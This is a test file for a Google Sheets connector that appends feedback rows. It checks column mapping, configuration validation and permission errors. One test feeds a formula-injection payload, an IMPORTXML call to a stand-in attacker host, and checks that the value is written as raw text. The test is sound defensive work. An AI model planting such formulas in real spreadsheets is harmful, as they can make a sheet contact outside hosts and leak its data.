import { anAnalysis, anItem, dlv } from '@sluice/testing/builders'
import { beforeEach, describe, expect, test } from 'vitest'
import { rowOf } from '../../src/connectors/google/row.ts'
import { googleSheets } from '../../src/connectors/google-sheets.ts'
import { ACCOUNT, appended, base, google, leased, newKey, send } from './google-service.ts'

beforeEach(newKey)

describe('a row', () => {
  test('is appended with the columns of feedback, and nothing in it is a formula', async () => {
    const { ports, calls } = google(() => appended(12))
    const item = anItem({ text: '=IMPORTXML("https://evil.example","//a")', url: 'https://example.com/1' })
    const delivery = leased({ data: { item, analysis: anAnalysis() } })
    expect(await send(ports, base, delivery)).toMatchObject({
      kind: 'delivered',
      externalId: 'row 12',
      externalUrl: 'https://docs.google.com/spreadsheets/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ012345/edit',
    })
    const { url, body } = calls[1] ?? {}
    expect(url?.pathname).toBe('/v4/spreadsheets/1aBcDeFgHiJkLmNoPqRsTuVwXyZ012345/values/A1:append')
    expect(url?.searchParams.get('valueInputOption')).toBe('RAW')
    expect(JSON.parse(body ?? '')).toEqual({
      majorDimension: 'ROWS',
      values: [
        [
          '2026-01-02T03:04:05.000Z',
          'survey',
          'Bug: export',
          '=IMPORTXML("https://evil.example","//a")',
          'negative',
          'bug',
          'https://example.com/1',
          dlv(1),
        ],
      ],
    })
  })

  test('has numbers as numbers, lists as text, and nothing where there is nothing', () => {
    const columns = ['analysis.sentiment.score', 'item.author.bot', 'item.hashtags', 'item.attributes', 'item.nothing.at.all', 'url', 'id']
    const item = anItem({ author: { id: 'u', bot: true }, hashtags: ['a', 'b'], attributes: { plan: 'pro' } })
    expect(rowOf(leased({ data: { item, analysis: anAnalysis() } }), columns)).toEqual([
      -0.6,
      true,
      'a, b',
      '{"plan":"pro"}',
      '',
      '',
      dlv(1),
    ])
  })

  test('of a digest or a notice, which have no item, holds what there is', () => {
    expect(rowOf(leased({ data: {} }), ['time', 'source', 'title', 'text', 'message', 'id'])).toEqual([
      '',
      '',
      'Bug: export',
      'Half of them.',
      'Half of them.',
      dlv(1),
    ])
  })

  test('never reaches for what is not data', () => {
    expect(rowOf(leased(), ['item.constructor.name', 'item.__proto__', 'item.text.length'])).toEqual(['', '', ''])
  })

  test('that is refused says whom the spreadsheet has to be shared with', async () => {
    const { ports } = google(({ url }) =>
      url.hostname.startsWith('oauth2') ? {} : { status: 403, text: 'The caller does not have permission' },
    )
    expect(await send(ports)).toEqual({
      kind: 'denied',
      status: 403,
      detail: `share the spreadsheet with ${ACCOUNT} as an editor, and see that the Sheets API is enabled: The caller does not have permission`,
    })
  })
})

const issues = (more: object) => googleSheets.checkConfig({ ...base, ...more }, false).map(({ path, message }) => `${path}: ${message}`)

describe('the configuration', () => {
  test('may name columns and paths', () => {
    expect(issues({ sheet: "Users' voices", columns: ['id', 'message', 'item.attributes.plan', 'analysis.sentiment.score'] })).toEqual([])
  })

  test('needs the id, by which an earlier try is found', () => {
    expect(issues({ columns: ['text'] })).toEqual(['columns: must hold id, by which an earlier try is found'])
  })

  test('knows no other columns', () => {
    expect(issues({ columns: ['id', 'secrets.KEY'] })).toEqual([expect.stringMatching(/^columns\.1: must be one of time, source,/)])
  })
})
